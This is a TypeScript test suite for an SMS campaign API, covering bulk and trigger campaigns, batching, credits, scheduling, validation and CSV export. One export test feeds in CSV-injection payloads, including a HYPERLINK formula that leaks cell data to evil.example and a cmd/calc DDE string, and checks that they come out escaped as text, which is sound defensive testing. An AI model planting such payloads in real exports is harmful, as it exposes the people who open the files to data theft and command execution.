import { parse } from 'csv-parse/sync';
import { advanceCampaigns } from '../../shared/app/campaignSending';
import { sendMessage } from '../../shared/app/sendMessage';
import { makeCampaign } from '../fixtures/records';
import { compileBody } from '../../shared/http/validation';
import { eventDefinitionOf } from '../../shared/webhooks/catalog';
import { startTestHost, type Api, type TestHost } from '../fixtures/testHost';
import { decideSenderId } from '../fixtures/webhookScenarios';

/** The campaign's events as stored in the outbox, each checked against its trigger's schema. */
async function eventsOf(t: TestHost, type: string, accountId = t.host.seed.accountId): Promise<any[]> {
  const events = await t.host.runtime.deps.store.outbox.listForAccount(accountId, { type }, 100);
  const validate = compileBody(eventDefinitionOf(type)!.dataSchema);
  for (const e of events) expect(validate(e.data)).toBeNull();
  return events.map((e) => e.data);
}

async function group(api: Api, name: string): Promise<string> {
  const res = await api.post('/groups', { name });
  expect(res.status).toBe(201);
  return res.body.id;
}

async function contact(api: Api, phone: string, groupIds: string[], extra: Record<string, unknown> = {}): Promise<string> {
  const res = await api.post('/contacts', { phone, groupIds, ...extra });
  expect(res.status).toBe(201);
  return res.body.id;
}

/** Runs the campaign job once, as its timer would. */
const runCampaignJob = (t: TestHost) => advanceCampaigns(t.host.runtime.deps);

describe('bulk campaigns', () => {
  let t: TestHost;
  beforeEach(async () => {
    t = await startTestHost({ CAMPAIGN_BATCH_SIZE: '2' });
  });
  afterEach(() => t.close());

  test('sends one templated message per contact of its groups, skips opted-out contacts, then completes with delivery results', async () => {
    const vip = await group(t.api, 'VIP');
    const news = await group(t.api, 'Newsletter');
    await contact(t.api, '+14155550101', [vip, news], { firstName: 'Ada', customFields: { code: 'A1' } });
    await contact(t.api, '+14155551400', [vip], { customFields: { code: 'B2' } }); // the simulator bounces it
    await contact(t.api, '+14155550103', [news], { firstName: 'Cy', customFields: { code: 'C3' } });
    await contact(t.api, '+14155550104', [news], { firstName: 'Di' });
    await contact(t.api, '+14155550400', [news], { firstName: 'Ed' }); // the simulator rejects it: failed, refunded
    await contact(t.api, '+14155550105', [], { firstName: 'Not in a group' });
    await t.api.post('/opt-outs', { phone: '+14155550104' });

    const created = await t.api.post('/campaigns', {
      name: 'Spring sale',
      kind: 'bulk',
      text: 'Hi {{firstName|there}}, your code is {{code|NONE}}',
      groupIds: [vip, news],
    });
    expect(created.status).toBe(201);
    expect(created.headers.get('location')).toBe(`/api/campaigns/${created.body.id}`);
    expect(created.body).toMatchObject({ kind: 'bulk', status: 'draft', groupIds: [vip, news], triggerUrl: null, results: null });
    const id = created.body.id as string;
    const balanceBefore = (await t.api.get('/balance')).body.credits as string;

    const started = await t.api.post(`/campaigns/${id}/start`);
    expect(started.status).toBe(200);
    expect(started.body).toMatchObject({
      status: 'sending',
      startedAt: '2026-03-01T12:00:00.000Z',
      progress: { recipients: 5, accepted: 0 },
    });
    expect(await eventsOf(t, 'campaign.started')).toEqual([
      expect.objectContaining({ campaignId: id, name: 'Spring sale', recipientCount: 5, groupIds: [vip, news], scheduledFor: null }),
    ]);

    await t.host.drain(); // batches of 2: three batch tasks
    const sent = (await t.api.get(`/campaigns/${id}`)).body;
    expect(sent).toMatchObject({ status: 'sent', progress: { recipients: 5, accepted: 4, skipped: 1, cost: '0.0316', currency: 'USD' } });
    const messages = (await t.api.get(`/messages?campaignId=${id}`)).body.items as any[];
    expect(messages.map((m) => [m.to, m.text, m.campaignId]).sort()).toEqual([
      ['+14155550101', 'Hi Ada, your code is A1', id],
      ['+14155550103', 'Hi Cy, your code is C3', id],
      ['+14155550400', 'Hi Ed, your code is NONE', id],
      ['+14155551400', 'Hi there, your code is B2', id],
    ]);
    expect((await t.api.get('/balance')).body.credits).not.toBe(balanceBefore);

    await runCampaignJob(t); // delivery reports not in yet: still sent
    expect((await t.api.get(`/campaigns/${id}`)).body.status).toBe('sent');
    await t.advance(1_000); // the simulator reports
    await runCampaignJob(t);
    const done = (await t.api.get(`/campaigns/${id}`)).body;
    // The rejected message was refunded: the campaign cost what the three others were charged.
    expect(done).toMatchObject({
      status: 'completed',
      completedAt: '2026-03-01T12:00:01.000Z',
      progress: { cost: '0.0237' },
      results: { sent: 0, delivered: 2, undelivered: 1, failed: 1, cancelled: 0 },
    });
    const [completed] = await eventsOf(t, 'campaign.completed');
    expect(completed).toMatchObject({
      campaignId: id,
      totalSent: 4,
      delivered: 2,
      undelivered: 1,
      failed: 1,
      totalCost: '0.0237',
      startedAt: '2026-03-01T12:00:00.000Z',
    });
    expect(completed.deliveryRate).toBeCloseTo(2 / 4);
    expect(completed.failureRate).toBeCloseTo(2 / 5);

    // The CSV log (seed 004): one row per message with status and failure reason.
    const res = await fetch(`${t.url}/api/campaigns/${id}/export`, { headers: { 'x-api-key': 'dfs_test_dev_key' } });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(5);
    // The opted-out contact is listed after the messages, with the reason it was skipped (a cell starting with + is escaped as text).
    expect(rows[4]).toMatchObject({
      messageId: '',
      phone: '+14155550104',
      status: 'skipped',
      reasonCode: 'recipient_opted_out',
      reasonMessage: expect.stringMatching(/^'\+14155550104 has opted out/),
    });
    expect(rows.find((r) => r.phone === '+14155550400')).toMatchObject({ status: 'failed', reasonCode: '1410' });
    expect(rows.find((r) => r.phone === '+14155551400')).toMatchObject({
      text: 'Hi there, your code is B2',
      status: 'undelivered',
      reasonCode: '1400',
      reasonMessage: 'Hard Bounce',
    });
    expect(rows.find((r) => r.phone === '+14155550101')).toMatchObject({ status: 'delivered', reasonCode: '' });
  });

  test('the CSV export shows formula-like cells as text (OWASP CSV injection) and keeps phone numbers as they are', async () => {
    const g = await group(t.api, 'All');
    const codes = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', '@SUM(1+1)', '-2+3', "+cmd|' /C calc'!A0", 'plain text'];
    for (const [i, code] of codes.entries()) await contact(t.api, `+1415555030${i}`, [g], { customFields: { code } });
    const id = (await t.api.post('/campaigns', { name: 'Formulas', kind: 'bulk', text: '{{code}}', groupIds: [g] })).body.id as string;
    expect((await t.api.post(`/campaigns/${id}/start`)).status).toBe(200);
    await t.host.drain();
    const res = await fetch(`${t.url}/api/campaigns/${id}/export`, { headers: { 'x-api-key': 'dfs_test_dev_key' } });
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.phone, r.text]).sort()).toEqual([
      ['+14155550300', `'${codes[0]}`],
      ['+14155550301', `'${codes[1]}`],
      ['+14155550302', `'${codes[2]}`],
      ['+14155550303', `'${codes[3]}`],
      ['+14155550304', 'plain text'],
    ]);
  });

  test('a batch task run twice sends nobody twice, and a stale one is dropped', async () => {
    const g = await group(t.api, 'All');
    for (let i = 0; i < 5; i++) await contact(t.api, `+1415555020${i}`, [g]);
    const id = (await t.api.post('/campaigns', { name: 'Dup', kind: 'bulk', text: 'Hello', groupIds: [g] })).body.id;
    await t.api.post(`/campaigns/${id}/start`);
    const deps = t.host.runtime.deps;
    // The same batch delivered twice before either finished (at-least-once queues do this).
    const first = { type: 'campaign.batch.v1' as const, accountId: t.host.seed.accountId, campaignId: id, batch: 0 };
    const { processCampaignBatch } = await import('../../shared/app/campaignSending');
    await Promise.all([processCampaignBatch(deps, first), processCampaignBatch(deps, first)]);
    await t.host.drain();
    await processCampaignBatch(deps, first); // long after: stale
    await t.host.drain();
    const c = (await t.api.get(`/campaigns/${id}`)).body;
    expect(c).toMatchObject({ status: 'sent', progress: { recipients: 5, accepted: 5, skipped: 0 } });
    const messages = (await t.api.get(`/messages?campaignId=${id}`)).body.items as any[];
    expect(messages.map((m) => m.to).sort()).toEqual(['+14155550200', '+14155550201', '+14155550202', '+14155550203', '+14155550204']);
  });

  test('a campaign whose next batch was lost is picked up by the campaign job', async () => {
    const g = await group(t.api, 'All');
    for (let i = 0; i < 3; i++) await contact(t.api, `+1415555030${i}`, [g]);
    const id = (await t.api.post('/campaigns', { name: 'Lost', kind: 'bulk', text: 'Hello', groupIds: [g] })).body.id;
    const { store } = t.host.runtime.deps;
    // As if the process died after saving the start and before queuing the first batch.
    const draft = (await store.campaigns.get(t.host.seed.accountId, id))!;
    await store.campaigns.update(
      { ...draft, status: 'sending', startedAt: '2026-03-01T12:00:00.000Z', progress: { ...draft.progress, recipients: 3 } },
      [],
    );
    await t.host.drain();
    expect(await runCampaignJob(t)).toBe(0); // not stale yet
    t.clock.advance(61_000);
    expect(await runCampaignJob(t)).toBe(1);
    await t.host.drain();
    expect((await t.api.get(`/campaigns/${id}`)).body).toMatchObject({ status: 'sent', progress: { accepted: 3 } });
  });

  test('the campaign job looks past more than a page of campaigns still waiting for reports', async () => {
    const deps = t.host.runtime.deps;
    const account = (await deps.store.accounts.get(t.host.seed.accountId))!;
    const sentAt = (s: number) => new Date(t.clock.now() - 600_000 + s * 1_000).toISOString();
    // 105 campaigns that finished sending first, each with a message still queued (no report yet)...
    for (let i = 0; i < 105; i++) {
      const waiting = await deps.store.campaigns.create(
        makeCampaign({ accountId: account.id, status: 'sent', sendingFinishedAt: sentAt(i), updatedAt: sentAt(i) }),
      );
      await sendMessage(deps, account, { to: '+14155550901', text: 'Waiting', campaignId: waiting.id }, null);
    }
    // ...and behind them one whose messages are all final.
    const done = await deps.store.campaigns.create(
      makeCampaign({ accountId: account.id, status: 'sent', sendingFinishedAt: sentAt(200), updatedAt: sentAt(200) }),
    );
    expect(await runCampaignJob(t)).toBe(1);
    expect((await deps.store.campaigns.get(account.id, done.id))!.status).toBe('completed');
  });

  test('running out of credits fails the campaign with the affected recipients', async () => {
    const other = await t.newAccount({ credits: '0.02', senderId: 'Other' }); // 0.0079 a message: two fit
    const g = await group(other.api, 'All');
    for (let i = 0; i < 5; i++) await contact(other.api, `+1415555041${i}`, [g]); // not 0400: the simulator rejects that suffix
    const id = (await other.api.post('/campaigns', { name: 'Too big', kind: 'bulk', text: 'Hello', groupIds: [g] })).body.id;
    await other.api.post(`/campaigns/${id}/start`);
    await t.host.drain();
    const c = (await other.api.get(`/campaigns/${id}`)).body;
    expect(c).toMatchObject({
      status: 'failed',
      failedAt: '2026-03-01T12:00:00.000Z',
      error: { code: 'insufficient_credits' },
      progress: { accepted: 2, recipients: 5 },
    });
    expect(await eventsOf(t, 'campaign.failed', other.id)).toEqual([
      expect.objectContaining({
        campaignId: id,
        name: 'Too big',
        affectedRecipients: 3,
        sentBeforeFailure: 2,
        error: expect.objectContaining({ code: 'insufficient_credits' }),
      }),
    ]);
    await runCampaignJob(t);
    expect((await other.api.get(`/campaigns/${id}`)).body.status).toBe('failed');
  });

  test('a scheduled campaign starts at its time, and a cancelled one never sends', async () => {
    const g = await group(t.api, 'All');
    await contact(t.api, '+14155550501', [g], { firstName: 'Eve' });
    const later = new Date(t.clock.now() + 3_600_000).toISOString();
    const a = (await t.api.post('/campaigns', { name: 'Later', kind: 'bulk', text: 'Hi {{firstName}}', groupIds: [g] })).body.id;
    const b = (await t.api.post('/campaigns', { name: 'Cancelled', kind: 'bulk', text: 'Hi', groupIds: [g] })).body.id;
    expect((await t.api.post(`/campaigns/${a}/start`, { sendAt: later })).body).toMatchObject({
      status: 'scheduled',
      scheduledFor: later,
      startedAt: null,
    });
    await t.api.post(`/campaigns/${b}/start`, { sendAt: later });
    const cancelled = await t.api.post(`/campaigns/${b}/cancel`);
    expect(cancelled.body.status).toBe('cancelled');
    expect((await t.api.post(`/campaigns/${b}/cancel`)).status).toBe(409);
    await t.advance(3_599_000);
    expect((await t.api.get(`/messages?campaignId=${a}`)).body.items).toHaveLength(0);
    expect(await eventsOf(t, 'campaign.started')).toHaveLength(0);
    await t.advance(1_000);
    expect((await t.api.get(`/campaigns/${a}`)).body).toMatchObject({ status: 'sent', startedAt: later });
    expect((await t.api.get(`/messages?campaignId=${a}`)).body.items.map((m: any) => m.text)).toEqual(['Hi Eve']);
    expect((await t.api.get(`/messages?campaignId=${b}`)).body.items).toHaveLength(0);
    expect(await eventsOf(t, 'campaign.started')).toEqual([
      expect.objectContaining({ campaignId: a, scheduledFor: later, startedAt: later, recipientCount: 1 }),
    ]);
  });

  test('bad definitions and commands are refused naming the field; other accounts see 404', async () => {
    const g = await group(t.api, 'All');
    const refuse = async (body: unknown, status: number, path: string) => {
      const res = await t.api.post('/campaigns', body);
      expect(res.status).toBe(status);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(res.body.errors.map((e: any) => e.path)).toContain(path);
    };
    await refuse({ name: 'x', kind: 'bulk', text: 'Hi' }, 422, '/groupIds');
    await refuse({ name: 'x', kind: 'bulk', text: 'Hi', groupIds: ['grp_nope'] }, 422, '/groupIds/0');
    await refuse({ name: 'x', kind: 'bulk', text: 'Hi', groupIds: [g, g] }, 400, '/groupIds/1');
    await refuse({ name: 'x', kind: 'bulk', text: 'Hi {{firstName', groupIds: [g] }, 400, '/text');
    await refuse({ name: 'x', kind: 'bulk', text: 'Hi {{first name}}', groupIds: [g] }, 400, '/text');
    await refuse({ name: 'x', kind: 'bulk', text: 'Hi', groupIds: [g], from: 'Unknown' }, 422, '/from');
    await refuse({ name: 'x', kind: 'trigger', text: 'Hi' }, 422, '/trigger');
    await refuse({ name: 'x', kind: 'trigger', text: 'Hi {{orderId}}', trigger: { phoneField: 'phone' } }, 422, '/text');
    await refuse(
      { name: 'x', kind: 'trigger', text: 'Hi', trigger: { phoneField: 'phone', attributes: [{ name: 'phone' }] } },
      422,
      '/trigger/attributes/0/name',
    );
    await refuse({ name: 'x', kind: 'weekly', text: 'Hi', groupIds: [g] }, 400, '/kind');

    const empty = (await t.api.post('/campaigns', { name: 'Empty', kind: 'bulk', text: 'Hi', groupIds: [g] })).body.id;
    const start = await t.api.post(`/campaigns/${empty}/start`);
    expect(start.status).toBe(422);
    expect(start.body).toMatchObject({ code: 'no_recipients', errors: [{ path: '/groupIds' }] });
    const early = await t.api.post(`/campaigns/${empty}/start`, { sendAt: new Date(t.clock.now() + 1_000).toISOString() });
    expect(early.body.errors[0].path).toBe('/sendAt');

    await contact(t.api, '+14155550601', [g]);
    expect((await t.api.post(`/campaigns/${empty}/start`)).status).toBe(200);
    expect((await t.api.post(`/campaigns/${empty}/start`)).body.code).toBe('campaign_already_started');
    expect((await t.api.patch(`/campaigns/${empty}`, { name: 'Renamed' })).body.code).toBe('campaign_not_editable');
    expect((await t.api.post(`/campaigns/${empty}/activate`)).body.code).toBe('not_a_trigger_campaign');

    const other = await t.newAccount();
    expect((await other.api.get(`/campaigns/${empty}`)).status).toBe(404);
    expect((await other.api.post(`/campaigns/${empty}/cancel`)).status).toBe(404);
    expect((await other.api.get(`/campaigns/${empty}/export`)).status).toBe(404);
    expect((await other.api.get('/campaigns')).body.items).toEqual([]);
  });

  test('drafts can be changed; lists filter by kind and status; the dropdown lists campaigns', async () => {
    const g = await group(t.api, 'All');
    const a = (await t.api.post('/campaigns', { name: 'A', kind: 'bulk', text: 'Hi', groupIds: [g] })).body.id;
    const b = (
      await t.api.post('/campaigns', {
        name: 'B',
        kind: 'trigger',
        text: 'Order {{orderId}}',
        trigger: { phoneField: 'phone', attributes: [{ name: 'orderId', field: 'order.id', required: true }] },
      })
    ).body.id;
    await decideSenderId(t, 'Acme', 'approve');
    const changed = await t.api.patch(`/campaigns/${a}`, { name: 'A2', text: 'Hello {{firstName}}', from: 'Acme' });
    expect(changed.status).toBe(200);
    expect(changed.body).toMatchObject({ name: 'A2', text: 'Hello {{firstName}}', from: 'Acme', groupIds: [g] });
    expect((await t.api.patch(`/campaigns/${a}`, { from: null })).body.from).toBeNull();
    expect((await t.api.patch(`/campaigns/${a}`, { trigger: { phoneField: 'p' } })).body.errors[0].path).toBe('/trigger');
    expect((await t.api.patch(`/campaigns/${b}`, { text: 'Order {{orderId}} {{missing}}' })).body.errors[0].path).toBe('/text');

    expect((await t.api.get('/campaigns')).body.items.map((c: any) => c.id)).toEqual([b, a]);
    expect((await t.api.get('/campaigns?kind=trigger')).body.items.map((c: any) => c.id)).toEqual([b]);
    expect((await t.api.get('/campaigns?status=draft')).body.items.map((c: any) => c.id)).toEqual([a]);
    const page = await t.api.get('/campaigns?limit=1');
    expect(page.body.items.map((c: any) => c.id)).toEqual([b]);
    expect(
      (await t.api.get(`/campaigns?limit=1&continuationToken=${encodeURIComponent(page.body.continuationToken)}`)).body.items.map(
        (c: any) => c.id,
      ),
    ).toEqual([a]);
    expect((await t.api.get('/campaigns?continuationToken=forged')).body.errors[0].path).toBe('query/continuationToken');

    expect((await t.api.get('/lookups/campaigns')).body.items).toEqual([
      { value: b, title: 'B (trigger, paused)' },
      { value: a, title: 'A2 (bulk, draft)' },
    ]);
  });
});

describe('bulk campaigns in chunks (messages.acceptMany)', () => {
  let t: TestHost;
  beforeEach(async () => {
    t = await startTestHost({ CAMPAIGN_BATCH_SIZE: '100' });
  });
  afterEach(() => t.close());

  test('a batch accepts its messages in chunks of MAX_ACCEPT_MANY; the chunk credits cannot pay for goes one by one, as far as they reach', async () => {
    // 0.0079 a message: 43 of 45 fit in 0.34. The first chunk (40) crosses the 0.30 threshold once.
    const other = await t.newAccount({ credits: '0.34', senderId: 'Chunks', lowBalanceThreshold: '0.30' });
    const g = await group(other.api, 'All');
    const csv = ['phone,firstName', ...Array.from({ length: 45 }, (_, i) => `+141555506${String(i).padStart(2, '0')},N${i}`)].join('\n');
    expect((await other.api.post('/contacts/import', { csv, groupIds: [g] })).body.errors).toEqual([]);
    const id = (await other.api.post('/campaigns', { name: 'Chunked', kind: 'bulk', text: 'Hi {{firstName}}', groupIds: [g] })).body.id;
    await other.api.post(`/campaigns/${id}/start`);
    await t.host.drain();

    const c = (await other.api.get(`/campaigns/${id}`)).body;
    expect(c).toMatchObject({
      status: 'failed',
      error: { code: 'insufficient_credits' },
      progress: { recipients: 45, accepted: 43, skipped: 0, cost: '0.3397' },
    });
    expect((await other.api.get('/balance')).body.credits).toBe('0.0003');
    const messages = (await other.api.get(`/messages?campaignId=${id}&limit=100`)).body.items as any[];
    expect(messages).toHaveLength(43);
    // Every accepted message went to the send queue: none is left queued once the queue is drained.
    expect(messages.filter((m) => m.status === 'queued')).toEqual([]);
    // In contact order (the batch's page order): the last two contacts were not reached.
    const contacts = (await t.host.runtime.deps.store.contacts.list(other.id, { groupIds: [g] }, { limit: 100 })).items.map((x) => x.phone);
    expect(messages.map((m) => m.to).sort()).toEqual(contacts.slice(0, 43).sort());
    expect(await eventsOf(t, 'balance.low', other.id)).toEqual([expect.objectContaining({ balance: '0.024', threshold: '0.30' })]);
    expect(await eventsOf(t, 'campaign.failed', other.id)).toEqual([
      expect.objectContaining({ campaignId: id, affectedRecipients: 2, sentBeforeFailure: 43 }),
    ]);
  });
});

describe('trigger campaigns (seed 004)', () => {
  let t: TestHost;
  beforeEach(async () => {
    t = await startTestHost();
  });
  afterEach(() => t.close());

  const orderCampaign = {
    name: 'Order confirmations',
    kind: 'trigger',
    text: 'Hi {{name|there}}, order {{orderId}} ({{items}} items) is confirmed.',
    trigger: {
      phoneField: 'customer.phone',
      attributes: [
        { name: 'name', field: 'customer.first_name' },
        { name: 'orderId', field: 'order.id', required: true },
        { name: 'items', field: 'order.items', type: 'number', required: true },
      ],
    },
  };

  test('an active campaign sends one message per call, filled from the payload; a paused one refuses calls', async () => {
    const created = await t.api.post('/campaigns', orderCampaign);
    expect(created.status).toBe(201);
    const id = created.body.id as string;
    expect(created.body).toMatchObject({
      status: 'paused',
      triggerUrl: `${t.url}/api/campaigns/${id}/trigger`,
      trigger: {
        phoneField: 'customer.phone',
        attributes: [{ name: 'name', field: 'customer.first_name', type: 'string', required: false }, expect.anything(), expect.anything()],
      },
    });
    const payload = { customer: { phone: '+14155550701', first_name: 'Ann' }, order: { id: 'SO-1001', items: 3 } };
    const paused = await t.api.post(`/campaigns/${id}/trigger`, payload);
    expect(paused.status).toBe(409);
    expect(paused.body.code).toBe('campaign_not_active');

    expect((await t.api.post(`/campaigns/${id}/activate`)).body.status).toBe('active');
    const sent = await t.api.post(`/campaigns/${id}/trigger`, payload, { 'idempotency-key': 'order-SO-1001' });
    expect(sent.status).toBe(202);
    expect(sent.body).toMatchObject({
      to: '+14155550701',
      text: 'Hi Ann, order SO-1001 (3 items) is confirmed.',
      campaignId: id,
      status: 'queued',
    });
    const again = await t.api.post(`/campaigns/${id}/trigger`, payload, { 'idempotency-key': 'order-SO-1001' });
    expect(again.headers.get('idempotent-replayed')).toBe('true');
    expect(again.body.id).toBe(sent.body.id);
    const noName = await t.api.post(`/campaigns/${id}/trigger`, {
      customer: { phone: '+14155550702' },
      order: { id: 'SO-1002', items: 1 },
    });
    expect(noName.body.text).toBe('Hi there, order SO-1002 (1 items) is confirmed.');

    await t.host.drain();
    await t.advance(1_000);
    const live = (await t.api.get(`/campaigns/${id}`)).body;
    expect(live.results).toEqual({ sent: 0, delivered: 2, undelivered: 0, failed: 0, cancelled: 0 });

    expect((await t.api.post(`/campaigns/${id}/pause`)).body.status).toBe('paused');
    expect((await t.api.post(`/campaigns/${id}/trigger`, payload)).status).toBe(409);
  });

  test('payloads that do not match the mapping are refused naming each payload field, without a charge', async () => {
    const id = (await t.api.post('/campaigns', orderCampaign)).body.id;
    await t.api.post(`/campaigns/${id}/activate`);
    const credits = (await t.api.get('/balance')).body.credits;
    const bad = await t.api.post(`/campaigns/${id}/trigger`, { customer: { phone: '4155550701' }, order: { items: '3' } });
    expect(bad.status).toBe(422);
    expect(bad.body.code).toBe('payload_mismatch');
    expect(bad.body.errors.map((e: any) => e.path).sort()).toEqual(['/customer/phone', '/order/id', '/order/items']);
    expect(bad.body.errors.find((e: any) => e.path === '/customer/phone').message).toMatch(/E\.164/);
    expect((await t.api.post(`/campaigns/${id}/trigger`, { order: { id: 'x', items: 1 } })).body.errors).toEqual([
      { path: '/customer/phone', message: expect.stringMatching(/required/) },
    ]);
    expect((await t.api.post(`/campaigns/${id}/trigger`, '[1,2]')).status).toBe(400);
    expect((await t.api.get('/balance')).body.credits).toBe(credits);
    expect((await t.api.post(`/campaigns/${id}/start`)).body.code).toBe('not_a_bulk_campaign');
  });
});
